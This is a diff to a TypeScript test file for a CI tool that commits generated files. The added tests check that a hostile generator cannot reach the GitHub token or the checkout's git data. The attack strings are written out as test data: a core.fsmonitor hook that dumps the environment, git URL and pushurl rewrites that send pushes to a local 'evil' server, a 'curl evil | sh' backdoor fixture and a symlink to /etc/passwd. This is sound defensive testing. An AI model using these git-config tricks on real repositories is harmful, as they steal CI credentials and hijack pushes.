@@ -2,7 +2,10 @@
 // the commands run in a real build image (FROM busybox) on the real Docker Engine, the
 // remote is a real bare repository served over HTTP by the GitHub stand-in (so pushes
 // need the token), and Octokit talks to the stand-in's REST API.
+import { createHash } from 'node:crypto'
 import fs from 'node:fs'
+import http from 'node:http'
+import type { AddressInfo } from 'node:net'
 import path from 'node:path'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { makeBuildRepo, removeImagesNamed } from '../helpers/build-image.mts'
@@ -45,12 +48,12 @@ interface Fixture {
 
 let counter = 0
 
-function setup(): Fixture {
+function setup(generated: unknown[] = GENERATED): Fixture {
   const name = `acme/gen${++counter}`
   const dev = makeBuildRepo({
     name: IMAGE,
     files: { 'input.txt': 'v2\n', 'gen/out.txt': 'v1\n', '.gitignore': '*.tmp\n' },
-    config: { generated: GENERATED },
+    config: { generated },
   })
   const dir = tempDir('cbs-gen-')
   const bare = path.join(dir, 'remote.git')
@@ -299,5 +302,121 @@ describe('update-generated: flags and the token', () => {
     const noToken = await run(f, [], { GITHUB_TOKEN: '' })
     expect(noToken.exitCode).toBe(2)
     expect(noToken.stderr).toContain('GITHUB_TOKEN is not set')
+  })
+})
+
+// --- a hostile generator ------------------------------------------------------------------
+// The generator runs code the job does not control (a tool, a dependency of one). Before
+// the fix it got the checkout's real `.git` read-write: these commands rewrite it the ways
+// an attacker would. Each works on a worktree's `.git` file when there is one (the old
+// layout), and writes the same into a `.git` of its own when there is none, so the test
+// shows the rewrite lands nowhere git on the host looks.
+
+/** Every file under `dir` (the checkout and its `.git`), by content; `.git/index` aside (`git status` refreshes it). */
+function snapshot(dir: string): Record<string, string> {
+  const out: Record<string, string> = {}
+  const walk = (rel: string) => {
+    for (const entry of fs.readdirSync(path.join(dir, rel), { withFileTypes: true })) {
+      const name = rel ? `${rel}/${entry.name}` : entry.name
+      const full = path.join(dir, name)
+      if (entry.isDirectory()) walk(name)
+      else if (name !== '.git/index') {
+        const content = entry.isSymbolicLink() ? `-> ${fs.readlinkSync(full)}` : fs.readFileSync(full)
+        out[name] = createHash('sha256').update(content).digest('hex')
+      }
+    }
+  }
+  walk('')
+  return out
+}
+
+/** Finds the checkout's git config from inside the container (old layout), else writes `.git/config` of its own. */
+const TARGET_CONFIG = 'if [ -f .git ]; then gd=$(sed -n "s/^gitdir: //p" .git); cfg="$gd/../../config"; else mkdir -p .git; cfg=.git/config; fi'
+
+/** An HTTP server standing in for an attacker's: answers 401 Basic to everything, records what came. */
+async function startEvilServer() {
+  const requests: Array<{ url: string; authorization?: string }> = []
+  const server = http.createServer((req, res) => {
+    requests.push({ url: req.url ?? '', authorization: req.headers.authorization })
+    res.writeHead(401, { 'www-authenticate': 'Basic realm="evil"' }).end()
+  })
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
+  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
+  return { url, requests, close: () => new Promise<void>((resolve) => server.close(() => resolve())) }
+}
+
+describe('update-generated: a generator never reaches the token, the checkout or its git data', () => {
+  let evil: Awaited<ReturnType<typeof startEvilServer>>
+  let leak: string
+  beforeAll(async () => {
+    evil = await startEvilServer()
+    leak = path.join(tempDir('cbs-gen-leak-'), 'env.txt')
+  })
+  afterAll(() => evil?.close())
+
+  const attacks = (): Record<string, string> => ({
+    // The audit's reproduction: git on the host runs core.fsmonitor with its env (the token).
+    fsmonitor: `${TARGET_CONFIG}; printf '[core]\\n\\tfsmonitor = "env >> ${leak}; false"\\n' >> "$cfg"`,
+    // The worktree's .git file pointed at a git dir the generator made, with that fsmonitor.
+    'git-file': [
+      'if [ -f .git ]; then gd=$(sed -n "s/^gitdir: //p" .git); cp -r "$gd/../.." evil.tmp; rm -f .git; else mkdir -p evil.tmp/objects evil.tmp/refs; echo "ref: refs/heads/main" > evil.tmp/HEAD; fi',
+      `printf '[core]\\n\\tfsmonitor = "env >> ${leak}; false"\\n' >> evil.tmp/config`,
+      'echo "gitdir: $PWD/evil.tmp" > .git',
+    ].join('; '),
+    // Git's URLs rewritten to the attacker's server: fetches, ls-remote and pushes go there.
+    'instead-of': `${TARGET_CONFIG}; printf '[url "%s/"]\\n\\tinsteadOf = %s/\\n' ${evil.url} ${gh.url} >> "$cfg"`,
+    // A push URL for the remote: the push, with the token, goes to the attacker.
+    'push-url': `${TARGET_CONFIG}; printf '[remote "origin"]\\n\\tpushurl = %s/acme/stolen.git\\n' ${evil.url} >> "$cfg"`,
+    // HEAD moved to another commit whose tree is the same: its history would ride along.
+    'move-head':
+      'if [ -f .git ]; then gd=$(sed -n "s/^gitdir: //p" .git); cat "$gd/../../refs/remotes/origin/topic" > "$gd/HEAD"; else mkdir -p .git; echo 0123456789012345678901234567890123456789 > .git/HEAD; fi',
+  })
+
+  it.each(['fsmonitor', 'git-file', 'instead-of', 'push-url', 'move-head'])(
+    '%s: the token reaches no process, the checkout is byte-for-byte unchanged, only the paths are committed',
+    async (attack) => {
+      const command = ['sh', '-c', `set -e; ${attacks()[attack]}; cp input.txt gen/out.txt`]
+      const f = setup([{ name: attack, command, paths: ['gen'] }])
+      // A branch whose net change is nothing, through a commit that adds a backdoor: in
+      // the checkout, as CI's fetches leave other branches.
+      git(f.dev, 'switch', '-q', '-c', 'topic')
+      pushToMain(f, { 'backdoor.sh': 'curl evil | sh\n' }, 'add a backdoor')
+      git(f.dev, 'rm', '-q', 'backdoor.sh')
+      git(f.dev, 'commit', '-q', '-m', 'hide it again')
+      git(f.dev, 'push', '-q', 'origin', 'topic', 'main')
+      git(f.dev, 'switch', '-q', 'main')
+      git(f.checkout, 'fetch', '-q', f.bare, '+refs/heads/*:refs/remotes/origin/*')
+      const before = snapshot(f.checkout)
+      const main = remoteSha(f, 'refs/heads/main')
+
+      const result = await run(f, ['--json'])
+      expect(result.exitCode, result.stderr).toBe(0)
+      expect(json(result).results[0]).toMatchObject({ name: attack, status: 'opened', files: ['gen/out.txt'] })
+      // No process git started after the generator ran its command with the token.
+      expect(fs.existsSync(leak), fs.existsSync(leak) ? fs.readFileSync(leak, 'utf8').slice(0, 200) : '').toBe(false)
+      expect(evil.requests).toEqual([])
+      // The user's checkout, its .git included, is as it was.
+      expect(snapshot(f.checkout)).toEqual(before)
+      // The branch is the default branch plus one commit changing gen/out.txt alone, pushed as the bot.
+      const sha = remoteSha(f, `refs/heads/update-generated/${attack}`)
+      expect(git(f.bare, 'rev-parse', `${sha}^`)).toBe(main)
+      expect(git(f.bare, 'rev-list', '--count', `${main}..${sha}`)).toBe('1')
+      expect(git(f.bare, 'diff', '--name-only', main, sha)).toBe('gen/out.txt')
+      expect(remoteFile(f, sha, 'gen/out.txt')).toBe('v2')
+      expect((await pullsFor(f, `update-generated/${attack}`)).map((p) => p.state)).toEqual(['open'])
+    },
+  )
+
+  it('only regular files are taken in: a symlink under paths (to a host file) fails the entry and pushes nothing', async () => {
+    const f = setup([{ name: 'symlink', command: ['sh', '-c', 'ln -sf /etc/passwd gen/out.txt && echo new > gen/new.txt'], paths: ['gen'] }])
+    const before = snapshot(f.checkout)
+    const from = gh.requests.length
+    const result = await run(f, ['--json'])
+    expect(result.exitCode).toBe(1)
+    expect(json(result).results[0]).toMatchObject({ name: 'symlink', status: 'failed', files: ['gen/out.txt'] })
+    expect(result.stderr).toContain('left what is not a regular file under its paths: gen/out.txt. Only regular files are committed; nothing was pushed')
+    expect(writes(from)).toEqual([])
+    expect(remoteSha(f, 'refs/heads/update-generated/symlink')).toBe('')
+    expect(snapshot(f.checkout)).toEqual(before)
   })
 })
